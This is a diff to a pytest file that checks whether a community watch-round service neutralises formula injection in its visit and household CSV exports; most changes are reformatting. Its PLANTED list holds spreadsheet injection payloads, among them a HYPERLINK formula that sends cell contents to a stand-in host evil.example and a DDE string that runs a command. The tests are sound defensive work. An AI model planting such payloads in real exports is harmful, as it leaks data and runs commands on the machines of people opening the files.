@@ -13,8 +13,14 @@ import pytest
 from server.core.csv_export import cell
 from tests.helpers.world import World, new_world, signed_in
 
-PLANTED = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\tTAB=1", "\rCR=1"]
+PLANTED = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB=1",
+    "\rCR=1",
+]
 
 
 def test_cell_neutralises_what_starts_a_formula_and_leaves_numbers_and_text() -> None:
@@ -35,14 +41,28 @@ async def world(sessionmaker) -> World:
 
 async def test_a_note_planted_by_a_watcher_leaves_visits_csv_inert_and_stays_stored(world, client_factory) -> None:
     staff = await signed_in(client_factory, world, "staff")
-    r = await staff.send_json("POST", "/api/operations", {"kind": "watch_round", "mode": "real", "name": "=定期見守り",
-                                                          "district_ids": [str(world.districts["D1"])], "start": True})
+    r = await staff.send_json(
+        "POST",
+        "/api/operations",
+        {
+            "kind": "watch_round",
+            "mode": "real",
+            "name": "=定期見守り",
+            "district_ids": [str(world.districts["D1"])],
+            "start": True,
+        },
+    )
     assert r.status_code == 201, r.text
     op = r.json()["id"]
     watcher = await signed_in(client_factory, world, "watcher")
     for who, household, note in ((watcher, "H1", PLANTED[0]), (staff, "H2", PLANTED[1])):
-        visit = {"client_id": str(uuid.uuid4()), "household_id": str(world.households[household]), "outcome": "ok",
-                 "device_time": datetime.now(UTC).isoformat(), "note": note}
+        visit = {
+            "client_id": str(uuid.uuid4()),
+            "household_id": str(world.households[household]),
+            "outcome": "ok",
+            "device_time": datetime.now(UTC).isoformat(),
+            "note": note,
+        }
         assert (await who.send_json("POST", f"/api/operations/{op}/visits", visit)).status_code == 201
 
     export = await staff.get("/api/exports/visits.csv")
@@ -51,7 +71,7 @@ async def test_a_note_planted_by_a_watcher_leaves_visits_csv_inert_and_stays_sto
     rows = _rows(export.content)[1:]
     assert sorted(r[6] for r in rows) == sorted("'" + n for n in PLANTED[:2])
     assert {r[0] for r in rows} == {"'=定期見守り"}
-    assert b'"' + "'=HYPERLINK".encode() in export.content  # every cell quoted
+    assert b'"' + b"'=HYPERLINK" in export.content  # every cell quoted
     # What the watcher wrote is kept as written (the export alone changes).
     mine = (await watcher.get("/api/field/visits")).json()
     assert [v["note"] for v in mine] == [PLANTED[0]]
@@ -61,7 +81,9 @@ async def test_households_csv_is_inert_in_both_encodings(world, client_factory) 
     staff = await signed_in(client_factory, world, "staff")
     hid = world.households["H1"]
     h = (await staff.get(f"/api/households/{hid}")).json()
-    r = await staff.send_json("PATCH", f"/api/households/{hid}", {"version": h["version"], "address": "=1+2 笠間市", "town": "@町"})
+    r = await staff.send_json(
+        "PATCH", f"/api/households/{hid}", {"version": h["version"], "address": "=1+2 笠間市", "town": "@町"}
+    )
     assert r.status_code == 200, r.text
     for encoding, charset in (("utf-8-bom", "utf-8"), ("cp932", "Windows-31J")):
         export = await staff.get("/api/exports/households.csv", params={"encoding": encoding})
